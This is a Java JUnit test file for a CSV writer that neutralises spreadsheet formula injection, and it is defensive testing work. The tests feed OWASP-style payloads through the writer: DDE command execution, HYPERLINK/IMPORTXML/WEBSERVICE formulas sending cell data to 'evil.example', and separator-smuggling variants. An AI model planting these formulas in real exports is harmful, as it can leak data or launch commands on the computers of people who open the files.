package fr.passerelle.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import fr.passerelle.csv.SpreadsheetSafeCsv.Dialect;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

class SpreadsheetSafeCsvTest {

    /**
     * OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection and the
     * cheat sheets it links), their variants with a leading tab or CR, full-width signs, and cells that
     * smuggle a formula past the separator of either dialect.
     */
    static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=10+20+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2, \"Cliquez ici\")",
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
            "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\", \"feuille!A1:B9\")",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "=WEBSERVICE(\"http://evil.example/\"&A1)",
            "\t=1+1",
            "\r=1+1",
            "\n-3+3+cmd|' /C calc'!A0",
            "＝1+1",
            "＋1+1",
            "x;=2+3;y",
            "x,=2+3,y",
            "x;+cmd|' /C calc'!A0",
            "Hôtel de Ville, =HYPERLINK(\"http://evil.example\")",
            "a; @SUM(A1)",
            "a\t=1+1",
            "ligne 1\n=1+1",
            "\"guillemet\";=1+1",
            "1;=1+1");

    private static final Pattern PLAIN_NUMBER = Pattern.compile("[+-]?(\\d+([.,]\\d+)?|[.,]\\d+)([eE][+-]?\\d+)?");

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "=1+1|'=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1)|'=HYPERLINK(\"http://evil.example/?\"&A1)",
            "+1+cmd /C calc!A0|'+1+cmd /C calc!A0",
            "-2+3|'-2+3",
            "@SUM(A1:A9)|'@SUM(A1:A9)",
            "+33 6 12 34 56 78|'+33 6 12 34 56 78",
            "＝1+1|'＝1+1",
            "-|'-",
            "x;=2+3;y|x;'=2+3;y",
            "x,=2+3,y|x,'=2+3,y",
            "a; @SUM(A1)|a; '@SUM(A1)",
            "-12.5|-12.5",
            "-12,5|-12,5",
            "+33|+33",
            "-1e5|-1e5",
            "-.5|-.5",
            "12|12",
            "1,-2|1,-2",
            "3;-4|3;-4",
            "Piscine municipale|Piscine municipale",
            "Hôtel de Ville, parvis|Hôtel de Ville, parvis",
            "a=b|a=b",
            "Rue A - Rue B|Rue A - Rue B",
            "2024-01-31|2024-01-31",
            "`'`|`'`"})
    void neutralisesFormulasButNotNumbers(String stored, String served) {
        assertEquals(served, SpreadsheetSafeCsv.neutralise(stored));
    }

    @Test
    void tabAndCarriageReturnFirstAreNeutralised() {
        assertEquals("'\t'=1", SpreadsheetSafeCsv.neutralise("\t=1"));
        assertEquals("'\r'=1", SpreadsheetSafeCsv.neutralise("\r=1"));
        assertEquals(" '=1", SpreadsheetSafeCsv.neutralise(" =1"));
        assertEquals("", SpreadsheetSafeCsv.neutralise(""));
        assertEquals("", SpreadsheetSafeCsv.neutralise(null));
    }

    /**
     * Whatever the file's dialect, a spreadsheet of the other one must see no formula: the file is read
     * back on {@code ,} and on {@code ;} (honouring quotes as Excel and LibreOffice do), and also split
     * naively on both, ignoring quotes, as a careless import might.
     */
    @ParameterizedTest
    @EnumSource(Dialect.class)
    void noPayloadOpensAsAFormulaWhicheverSeparatorTheSpreadsheetUses(Dialect dialect) throws IOException {
        String text = written(dialect, PAYLOADS.stream().map(payload -> List.of("A1", payload, "-12,5")).toList());

        for (char separator : new char[] {',', ';', '\t'}) {
            for (CsvRecord record : CsvReader.builder().fieldSeparator(separator).allowExtraFields(true).allowExtraCharsAfterClosingQuote(true)
                    .allowMissingFields(true).ofCsvRecord(text)) {
                for (String cell : record.getFields()) {
                    assertNoFormula(cell, "read on '" + separator + "' from " + dialect);
                }
            }
        }
        for (String line : text.split("\r\n|\n")) {
            for (String raw : line.split("[,;\t]")) {
                assertNoFormula(raw.startsWith("\"") ? raw.substring(1) : raw, "split naively from " + dialect);
            }
        }
    }

    @ParameterizedTest
    @EnumSource(Dialect.class)
    void everyCellASpreadsheetCouldSplitIsQuoted(Dialect dialect) throws IOException {
        String text = written(dialect, List.of(List.of("a;b", "a,b", "a\tb", "a\"b", "a\nb", "a\rb", "simple")));

        String line = text.replace("\uFEFF", "");
        char sep = dialect == Dialect.COMMA ? ',' : ';';
        assertTrue(line.startsWith("\"a;b\"" + sep + "\"a,b\"" + sep + "\"a\tb\"" + sep + "\"a\"\"b\"" + sep
                + "\"a\nb\"" + sep + "\"a\rb\"" + sep + "simple"), line);
    }

    @Test
    void theFrenchExcelDialectHasABomSemicolonsAndCrlf() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SpreadsheetSafeCsv csv = SpreadsheetSafeCsv.open(out, Dialect.EXCEL_FR)) {
            csv.writeRecord("ligne", "valeur");
            csv.writeRecord("2", "=1+1");
        }
        byte[] bytes = out.toByteArray();

        assertEquals((byte) 0xEF, bytes[0]);
        assertEquals((byte) 0xBB, bytes[1]);
        assertEquals((byte) 0xBF, bytes[2]);
        assertEquals("ligne;valeur\r\n2;'=1+1\r\n", new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8));
    }

    @Test
    void rewritesAWholeFileKeepingQuotingAndEmptyCells() throws IOException {
        String stored = "id,nom,montant,commentaire\n"
                + "A1,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-12.5,\n"
                + "A2,\"Hôtel de Ville, parvis\",+3,@risque\n"
                + "A3,\"ligne 1\nligne 2\",,\"-\"\"x\"\"\"\n"
                + "A4,x;=2+3;y,1,\n";
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        SpreadsheetSafeCsv.copy(new ByteArrayInputStream(stored.getBytes(StandardCharsets.UTF_8)), out, Dialect.COMMA);

        assertEquals("id,nom,montant,commentaire\n"
                + "A1,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-12.5,\n"
                + "A2,\"Hôtel de Ville, parvis\",+3,'@risque\n"
                + "A3,\"ligne 1\nligne 2\",,\"'-\"\"x\"\"\"\n"
                + "A4,\"x;'=2+3;y\",1,\n", out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void streamsALargeFileWithoutHoldingIt() throws IOException {
        long rows = 200_000;
        InputStream generated = new InputStream() {
            private final byte[] row = "A1,=1+1,-12.5,texte un peu long pour remplir\n".getBytes(StandardCharsets.UTF_8);
            private final byte[] header = "id,formule,montant,commentaire\n".getBytes(StandardCharsets.UTF_8);
            private long emitted = -1;
            private int position;

            @Override
            public int read() {
                byte[] current = emitted < 0 ? header : row;
                if (emitted >= rows) {
                    return -1;
                }
                int b = current[position++];
                if (position == current.length) {
                    position = 0;
                    emitted++;
                }
                return b;
            }
        };
        long[] lines = {0};
        long[] neutralised = {0};
        OutputStream counting = new OutputStream() {
            private int comma;

            @Override
            public void write(int b) {
                if (b == '\n') {
                    lines[0]++;
                    comma = 0;
                } else if (b == ',') {
                    comma++;
                } else if (b == '\'' && comma == 1) {
                    neutralised[0]++;
                }
            }
        };

        SpreadsheetSafeCsv.copy(generated, counting, Dialect.COMMA);

        assertEquals(rows + 1, lines[0]);
        assertEquals(rows, neutralised[0]);
    }

    private static String written(Dialect dialect, List<List<String>> records) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SpreadsheetSafeCsv csv = SpreadsheetSafeCsv.open(out, dialect)) {
            records.forEach(csv::writeRecord);
        }
        String text = out.toString(StandardCharsets.UTF_8);
        return text.startsWith("\uFEFF") ? text.substring(1) : text;
    }

    private static void assertNoFormula(String cell, String how) {
        String trimmed = cell.stripLeading();
        if (trimmed.isEmpty() || PLAIN_NUMBER.matcher(trimmed).matches()) {
            return;
        }
        char first = cell.charAt(0) == ' ' ? trimmed.charAt(0) : cell.charAt(0);
        assertFalse("=+-@\t\r＝＋－＠".indexOf(first) >= 0, "cell « " + cell + " » opens as a formula, " + how);
    }
}
